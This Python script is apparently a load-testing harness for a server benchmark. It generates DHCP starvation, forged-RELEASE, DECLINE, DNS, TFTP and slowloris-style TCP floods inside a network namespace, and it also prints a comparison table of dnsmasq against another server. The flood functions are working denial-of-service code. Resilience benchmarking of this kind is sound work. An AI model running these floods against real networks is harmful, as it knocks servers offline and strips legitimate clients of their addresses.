#!/usr/bin/python3
"""Flood generator and result table for bench/flood (not a test).

    flood.py MODE --target IP --sources IP[,IP...] [options]   run one flood
    flood.py table FILE...                                      print the table

MODE is one of
  dhcp-discover  DISCOVERs (broadcast, raw frames on --iface) from --macs
                 client MACs in turn, each with its own Ethernet source
  dhcp-decline   each of the --macs MACs runs DISCOVER, OFFER, DECLINE of the
                 offered address and REQUEST, ACK, DECLINE of the bound one,
                 again and again; between those, blind DECLINEs of the --pool
                 addresses with the server's identifier
  dhcp-release   RELEASEs naming --victim (its MAC, client id and address),
                 unicast to the server from the --sources addresses in turn
  dns-udp        queries for --name over UDP from every source in turn
  dns-tcp-conn   --conns TCP connections held open and silent, reopened when
                 the server closes them
  dns-tcp-slow   --conns TCP connections each sending a DNS request (length
                 512) one byte every --interval seconds, reopened when closed
  tftp-rrq       RRQs for --file (blksize 65464, windowsize 64), each from a
                 new port; the first OACK or DATA of each is acknowledged
                 once, nothing after (up to --ring sockets kept open)
  http-conn      as dns-tcp-conn, against the HTTP port
  http-slow      slowloris: a GET whose headers never end, one byte every
                 --interval seconds

Every flood stops after --seconds or --max packets (connections for the TCP
modes), or on SIGINT/SIGTERM, and prints one JSON line of counts. The
sources are addresses of the namespace it runs in (bound before sending);
the DHCP modes forge Ethernet sources, inside the namespace's own link only.
"""
import argparse
import collections
import errno
import json
import os
import random
import resource
import selectors
import signal
import socket
import struct
import sys
import time

STOP = False


def on_signal(_sig, _frame):
    global STOP
    STOP = True


IP_BIND_ADDRESS_NO_PORT = 24  # Linux: pick the port at connect(), per 4-tuple


class Pacer:
    """Bounds a loop in time and count; optionally paces it to --rate/s."""

    def __init__(self, seconds, maximum, rate):
        self.t0 = time.monotonic()
        self.end = self.t0 + seconds
        self.max = maximum
        self.rate = rate
        self.n = 0

    def go(self):
        if STOP or self.n >= self.max:
            return False
        if (self.n & 63) == 0:
            now = time.monotonic()
            if now >= self.end:
                return False
            if self.rate:
                ahead = self.n / self.rate - (now - self.t0)
                if ahead > 0:
                    time.sleep(min(ahead, 0.05))
        return True

    def elapsed(self):
        return time.monotonic() - self.t0


def inet(a):
    return socket.inet_aton(a)


def mac_bytes(m):
    return bytes(int(x, 16) for x in m.split(":"))


def ip_checksum(h):
    s = sum(struct.unpack("!%dH" % (len(h) // 2), h))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def frame(eth_dst, eth_src, ip_src, ip_dst, payload, sport=68, dport=67):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.getrandbits(16), 0, 64, 17, 0,
                      inet(ip_src), inet(ip_dst))
    hdr = hdr[:10] + struct.pack("!H", ip_checksum(hdr)) + hdr[12:]
    return eth_dst + eth_src + b"\x08\x00" + hdr + udp


def bootp(xid, mac, opts, ciaddr="0.0.0.0", flags=0):
    b = struct.pack("!BBBBIHH4s4s4s4s", 1, 1, 6, 0, xid, 0, flags, inet(ciaddr), b"\0" * 4, b"\0" * 4,
                    b"\0" * 4)
    b += mac + b"\0" * 10 + b"\0" * 192 + b"\x63\x82\x53\x63"
    for code, val in opts:
        b += bytes([code, len(val)]) + val
    b += b"\xff"
    return b + b"\0" * max(0, 300 - len(b))


def dhcp_opts(mtype, mac, requested=None, server=None):
    o = [(53, bytes([mtype])), (61, b"\x01" + mac)]
    if requested:
        o.append((50, inet(requested)))
    if server:
        o.append((54, inet(server)))
    if mtype in (1, 3):
        o.append((55, bytes([1, 3, 6, 15, 51, 54])))
    return o


def parse_reply(buf):
    """A BOOTP reply in an Ethernet frame -> (xid, chaddr, yiaddr, type, server id) or None."""
    if len(buf) < 14 + 20 + 8 + 240 or buf[12:14] != b"\x08\x00" or buf[23] != 17:
        return None
    ihl = (buf[14] & 15) * 4
    u = 14 + ihl
    if struct.unpack("!H", buf[u + 2:u + 4])[0] != 68:
        return None
    b = buf[u + 8:]
    if len(b) < 240 or b[0] != 2 or b[236:240] != b"\x63\x82\x53\x63":
        return None
    xid = struct.unpack("!I", b[4:8])[0]
    yiaddr = socket.inet_ntoa(b[16:20])
    mtype, sid, i = 0, None, 240
    while i + 1 < len(b) and b[i] != 255:
        if b[i] == 0:
            i += 1
            continue
        ln = b[i + 1]
        v = b[i + 2:i + 2 + ln]
        if b[i] == 53 and ln == 1:
            mtype = v[0]
        elif b[i] == 54 and ln == 4:
            sid = socket.inet_ntoa(v)
        i += 2 + ln
    return xid, bytes(b[28:34]), yiaddr, mtype, sid


def attack_macs(n):
    return [bytes([0x02, 0xBF, 0xA0, 0, (i >> 8) & 255, i & 255]) for i in range(n)]


def raw_socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind((iface, 0x0800))
    s.setblocking(False)
    return s


def send_frame(s, f, st):
    try:
        s.send(f)
        st["sent"] += 1
    except (BlockingIOError, OSError):
        st["send_errors"] += 1


def pool_addrs(spec):
    a, b = spec.split("-")
    lo, hi = (struct.unpack("!I", inet(x))[0] for x in (a, b))
    return [socket.inet_ntoa(struct.pack("!I", x)) for x in range(lo, hi + 1)]


def blast(a, s, frames, st):
    """Sends the frames in turn, as fast as allowed; counts what comes back."""
    p = Pacer(a.seconds, a.max, a.rate)
    i = 0
    while p.go():
        send_frame(s, frames[i % len(frames)], st)
        i += 1
        p.n += 1
        if (i & 255) == 0:
            drain_dhcp(s, st, None)
    return p


def flood_dhcp_discover(a, st):
    s = raw_socket(a.iface)
    macs = attack_macs(a.macs)
    frames = [frame(b"\xff" * 6, m, "0.0.0.0", "255.255.255.255",
                    bootp(random.getrandbits(32), m, dhcp_opts(1, m))) for m in macs]
    return blast(a, s, frames, st)


def drain_dhcp(s, st, on_reply):
    while True:
        try:
            buf = s.recv(2048)
        except (BlockingIOError, InterruptedError):
            return
        r = parse_reply(buf)
        if not r:
            continue
        name = {2: "offer", 5: "ack", 6: "nak"}.get(r[3], "other")
        st["recv_" + name] = st.get("recv_" + name, 0) + 1
        if on_reply:
            on_reply(r)


def flood_dhcp_decline(a, st):
    s = raw_socket(a.iface)
    macs = attack_macs(a.macs)
    bcast = b"\xff" * 6
    pool = pool_addrs(a.pool)
    by_mac = {m: {"xid": 0, "t": 0.0} for m in macs}
    st.update(discover=0, request=0, decline_offered=0, decline_bound=0, decline_blind=0)

    def discover(m, new=True):
        c = by_mac[m]
        if new:  # a retransmission keeps its xid, as a client's does
            c["xid"] = random.getrandbits(32)
        c["t"] = time.monotonic()
        send_frame(s, frame(bcast, m, "0.0.0.0", "255.255.255.255", bootp(c["xid"], m, dhcp_opts(1, m))), st)
        st["discover"] += 1

    def decline(m, xid, addr, sid):
        send_frame(s, frame(bcast, m, "0.0.0.0", "255.255.255.255",
                            bootp(xid, m, dhcp_opts(4, m, addr, sid))), st)

    def on_reply(r):
        xid, mac, yiaddr, mtype, sid = r
        c = by_mac.get(mac)
        if c is None or c["xid"] != xid:
            return
        if mtype == 2:  # OFFER: decline what was only offered, then take it
            decline(mac, xid, yiaddr, sid or a.target)
            st["decline_offered"] += 1
            send_frame(s, frame(bcast, mac, "0.0.0.0", "255.255.255.255",
                                bootp(xid, mac, dhcp_opts(3, mac, yiaddr, sid or a.target))), st)
            st["request"] += 1
            c["t"] = time.monotonic()
        elif mtype == 5:  # ACK: decline the bound address, start over
            decline(mac, xid, yiaddr, sid or a.target)
            st["decline_bound"] += 1
            discover(mac)
        elif mtype == 6:
            discover(mac)

    for m in macs:
        discover(m)
    p = Pacer(a.seconds, a.max, a.rate)
    i = 0
    while p.go():
        m = macs[i % len(macs)]
        decline(m, random.getrandbits(32), pool[i % len(pool)], a.target)
        st["decline_blind"] += 1
        i += 1
        p.n += 1
        if (i & 63) == 0:
            drain_dhcp(s, st, on_reply)
            now = time.monotonic()
            for mm in macs:
                if now - by_mac[mm]["t"] > 0.5:
                    discover(mm, new=False)
    return p


def flood_dhcp_release(a, st):
    s = raw_socket(a.iface)
    vmac_s, vip = a.victim.split(",")
    vmac = mac_bytes(vmac_s)
    own = mac_bytes(open("/sys/class/net/%s/address" % a.iface).read().strip())
    smac = mac_bytes(a.server_mac)
    frames = [frame(smac, own, src, a.target,
                    bootp(random.getrandbits(32), vmac, dhcp_opts(7, vmac, None, a.target), ciaddr=vip))
              for src in a.sources]
    return blast(a, s, frames, st)


def dns_query(qid, name, qtype=1):
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.rstrip(".").split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack("!HH", qtype, 1)


def udp_sockets(a, port):
    socks = []
    for src in a.sources:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.setblocking(False)
        u.bind((src, 0))
        u.connect((a.target, port))
        socks.append(u)
    return socks


def flood_dns_udp(a, st):
    socks = udp_sockets(a, a.port or 53)
    body = dns_query(0, a.name)[2:]
    p = Pacer(a.seconds, a.max, a.rate)
    i = 0
    st.update(recv=0, recv_tc=0, refused=0)
    while p.go():
        u = socks[i % len(socks)]
        try:
            u.send(struct.pack("!H", i & 0xFFFF) + body)
            st["sent"] += 1
        except (BlockingIOError, OSError):
            st["send_errors"] += 1
        i += 1
        p.n += 1
        if (i & 63) == 0:
            for u in socks[(i >> 6) % len(socks)::max(1, len(socks) // 4)]:
                drain_dns(u, st)
    for u in socks:
        drain_dns(u, st)
    return p


def drain_dns(u, st):
    while True:
        try:
            r = u.recv(4096)
        except (BlockingIOError, InterruptedError):
            return
        except OSError:
            st["recv_errors"] += 1
            return
        st["recv"] += 1
        if len(r) >= 4 and r[2] & 2:
            st["recv_tc"] += 1
        if len(r) >= 4 and (r[3] & 15) == 5:
            st["refused"] += 1


def flood_tftp_rrq(a, st):
    port = a.port or 69
    rrq = b"\x00\x01" + a.file.encode() + b"\0octet\0blksize\x0065464\0windowsize\x0064\0"
    sel = selectors.DefaultSelector()
    ring = collections.deque()
    st.update(rrq=0, oack=0, data=0, acks=0, errors_busy=0, errors_other=0, recv_errors=0)
    p = Pacer(a.seconds, a.max, a.rate)
    i = 0
    while p.go():
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.setblocking(False)
        try:
            u.bind((a.sources[i % len(a.sources)], 0))
            u.sendto(rrq, (a.target, port))
            st["rrq"] += 1
            st["sent"] += 1
        except OSError:
            st["send_errors"] += 1
            u.close()
            i += 1
            p.n += 1
            continue
        sel.register(u, selectors.EVENT_READ, [False])
        ring.append(u)
        if len(ring) > a.ring:
            old = ring.popleft()
            sel.unregister(old)
            old.close()
        i += 1
        p.n += 1
        if (i & 15) == 0:
            tftp_drain(sel, st)
    tftp_drain(sel, st)
    for u in ring:
        u.close()
    return p


def tftp_drain(sel, st):
    for key, _ in sel.select(0):
        u, acked = key.fileobj, key.data
        while True:
            try:
                r, peer = u.recvfrom(70000)
            except (BlockingIOError, InterruptedError):
                break
            except OSError:
                st["recv_errors"] += 1
                break
            op = struct.unpack("!H", r[:2])[0] if len(r) >= 2 else 0
            if op == 6 or op == 3:
                st["oack" if op == 6 else "data"] += 1
                if not acked[0]:  # one ACK per transfer, never more
                    blk = 0 if op == 6 else struct.unpack("!H", r[2:4])[0]
                    try:
                        u.sendto(struct.pack("!HH", 4, blk), peer)
                        st["acks"] += 1
                    except OSError:
                        pass
                    acked[0] = True
            elif op == 5:
                code = struct.unpack("!H", r[2:4])[0] if len(r) >= 4 else -1
                msg = r[4:].split(b"\0")[0].lower()
                if b"busy" in msg or b"too many" in msg or code == 3:
                    st["errors_busy"] += 1
                else:
                    st["errors_other"] += 1


class Conn:
    __slots__ = ("sock", "src", "t_open", "established", "closed", "sent")

    def __init__(self, sock, src):
        self.sock, self.src, self.t_open = sock, src, time.monotonic()
        self.established = self.closed = False
        self.sent = 0


def flood_tcp(a, st, head, trickle):
    """Hold --conns connections; trickle (bytes, or None: silent) one byte per --interval."""
    port = a.port
    sel = selectors.DefaultSelector()
    conns = set()
    due = collections.deque()  # (time, conn): one byte due, in time order
    st.update(opened=0, established=0, refused=0, closed_by_server=0, reset_by_server=0, bytes_sent=0,
              bytes_recv=0, lifetime_sum=0.0, max_open=0)
    p = Pacer(a.seconds, a.max, a.rate)
    next_src = 0

    def close(c, how):
        if c.closed:
            return
        c.closed = True
        try:
            sel.unregister(c.sock)
        except (KeyError, ValueError):
            pass
        c.sock.close()
        conns.discard(c)
        if how:
            st[how] += 1
            if c.established:
                st["lifetime_sum"] += time.monotonic() - c.t_open

    def send(c, data):
        try:
            n = c.sock.send(data)
            st["bytes_sent"] += n
            c.sent += n
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            close(c, "reset_by_server")

    while True:
        while len(conns) < a.conns and p.go():
            src = a.sources[next_src % len(a.sources)]
            next_src += 1
            p.n += 1
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            s.setsockopt(socket.SOL_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            try:
                s.bind((src, 0))
                err = s.connect_ex((a.target, port))
            except OSError as e:
                err = e.errno
            st["opened"] += 1
            if err not in (0, errno.EINPROGRESS):
                st["refused"] += 1
                s.close()
                continue
            c = Conn(s, src)
            conns.add(c)
            sel.register(s, selectors.EVENT_WRITE, c)
        st["max_open"] = max(st["max_open"], len(conns))
        if STOP or time.monotonic() >= p.end or (not conns and not p.go()):
            break
        for key, ev in sel.select(0.02):
            c = key.data
            if c.closed:
                continue
            if not c.established:
                err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    st["refused"] += 1
                    close(c, None)
                    continue
                c.established = True
                st["established"] += 1
                sel.modify(c.sock, selectors.EVENT_READ, c)
                if head:
                    send(c, head)
                if trickle is not None and not c.closed:
                    due.append((time.monotonic() + a.interval, c))
                continue
            try:
                r = c.sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                close(c, "reset_by_server")
                continue
            if not r:
                close(c, "closed_by_server")
            else:
                st["bytes_recv"] += len(r)
        now = time.monotonic()
        while due and due[0][0] <= now:
            _, c = due.popleft()
            if c.closed:
                continue
            send(c, trickle[c.sent % len(trickle):c.sent % len(trickle) + 1])
            if not c.closed:
                due.append((now + a.interval, c))
    for c in list(conns):
        close(c, None)
    st["lifetime_mean"] = round(st.pop("lifetime_sum") / max(1, st["closed_by_server"] + st["reset_by_server"]), 3)
    return p


def run(a):
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    signal.signal(signal.SIGINT, on_signal)
    signal.signal(signal.SIGTERM, on_signal)
    st = {"mode": a.mode, "sources": len(a.sources), "sent": 0, "send_errors": 0, "recv_errors": 0}
    if a.mode.startswith("dhcp"):
        st["sources"] = a.macs if a.mode != "dhcp-release" else len(a.sources)
    m = a.mode
    if m == "dhcp-discover":
        p = flood_dhcp_discover(a, st)
    elif m == "dhcp-decline":
        p = flood_dhcp_decline(a, st)
    elif m == "dhcp-release":
        p = flood_dhcp_release(a, st)
    elif m == "dns-udp":
        p = flood_dns_udp(a, st)
    elif m == "tftp-rrq":
        p = flood_tftp_rrq(a, st)
    elif m in ("dns-tcp-conn", "dns-tcp-slow"):
        a.port = a.port or 53
        req = struct.pack("!H", 512) + dns_query(random.getrandbits(16), a.name)
        req += b"\0" * (514 - len(req))
        p = flood_tcp(a, st, None, None if m.endswith("conn") else req)
    elif m in ("http-conn", "http-slow"):
        a.port = a.port or 80
        head = ("GET /%s HTTP/1.1\r\nHost: %s\r\n" % (a.file, a.target)).encode()
        p = flood_tcp(a, st, head if m.endswith("slow") else None,
                      None if m.endswith("conn") else b"X-a: b\r\n")
    else:
        sys.exit("flood.py: unknown mode " + m)
    st["seconds"] = round(p.elapsed(), 2)
    st["per_s"] = round(st.get("opened", st["sent"]) / max(p.elapsed(), 1e-3))
    print(json.dumps(st), flush=True)


# ---- the table -------------------------------------------------------------


def fmt_ratio(n, d, floor):
    """n / d, or "n/a" when d is under floor (a ratio of near-zero numbers says nothing)."""
    if n is None or d is None:
        return "-"
    return "n/a" if d < floor else "%.2f" % (n / d)


def table(files):
    rows = []
    for f in files:
        with open(f) as fh:
            for line in fh:
                if line.startswith("FLOOD "):
                    rows.append(json.loads(line[6:]))
    by = collections.OrderedDict()
    for r in rows:
        by.setdefault((r["kind"], r["sources"]), {})[r["server"]] = r
    fmt = "%-13s %4s | %-15s %-15s | %-9s | %-11s %-9s %5s | %-9s %5s | %s"
    hdr = fmt % ("flood", "srcs", "legit dnsmasq", "legit netbay", "after d/n", "RSS MiB d/n", "+idle d/n",
                 "ratio", "CPU% d/n", "ratio", "flood/s d/n")
    print(hdr)
    print("-" * len(hdr))
    for (kind, n), s in by.items():
        d, nb = s.get("dnsmasq"), s.get("netbay")

        def g(r, k):
            return r.get(k) if r else None

        def legit(r):
            if not r:
                return "(no peer)"
            if "error" in r:
                return r["error"]
            return "%d/%d %s" % (r["legit_ok"], r["legit_n"], pct(r["legit_ok"], r["legit_n"]))

        def rec(r):
            if not r or "error" in r:
                return "-"
            return ">30s" if r["recovery_s"] is None else "%gs" % r["recovery_s"]

        print(fmt % (kind, n, legit(d), legit(nb), "%s/%s" % (rec(d), rec(nb)),
                     "%s/%s" % (mib(g(d, "rss_peak_kb")), mib(g(nb, "rss_peak_kb"))),
                     "%s/%s" % (mib(g(d, "rss_peak_above_idle_kb")), mib(g(nb, "rss_peak_above_idle_kb"))),
                     fmt_ratio(g(nb, "rss_peak_kb"), g(d, "rss_peak_kb"), 1),
                     "%s/%s" % (num(g(d, "cpu_pct")), num(g(nb, "cpu_pct"))),
                     fmt_ratio(g(nb, "cpu_pct"), g(d, "cpu_pct"), 1),
                     "%s/%s" % (num(g(d, "flood_per_s")), num(g(nb, "flood_per_s")))))


def pct(a, b):
    return "(-)" if not b else "(%.0f%%)" % (100.0 * a / b)


def mib(kb):
    return "-" if kb is None else "%.1f" % (kb / 1024.0)


def num(x):
    return "-" if x is None else ("%.0f" % x)


def main():
    if len(sys.argv) > 1 and sys.argv[1] == "table":
        table(sys.argv[2:])
        return
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("mode")
    ap.add_argument("--target", required=True)
    ap.add_argument("--sources", required=True, type=lambda s: s.split(","))
    ap.add_argument("--port", type=int, default=0)
    ap.add_argument("--seconds", type=float, default=30)
    ap.add_argument("--max", type=int, default=20_000_000)
    ap.add_argument("--rate", type=float, default=0, help="packets (connections) a second; 0: as fast as it goes")
    ap.add_argument("--conns", type=int, default=1000)
    ap.add_argument("--interval", type=float, default=1.0)
    ap.add_argument("--ring", type=int, default=2000)
    ap.add_argument("--iface", default="")
    ap.add_argument("--macs", type=int, default=1)
    ap.add_argument("--pool", default="")
    ap.add_argument("--victim", default="")
    ap.add_argument("--server-mac", default="")
    ap.add_argument("--name", default="www.lan")
    ap.add_argument("--file", default="f4m")
    a = ap.parse_args()
    if a.seconds > 600 or a.max > 100_000_000:
        sys.exit("flood.py: bounded to 600 s and 1e8 packets")
    run(a)


if __name__ == "__main__":
    main()
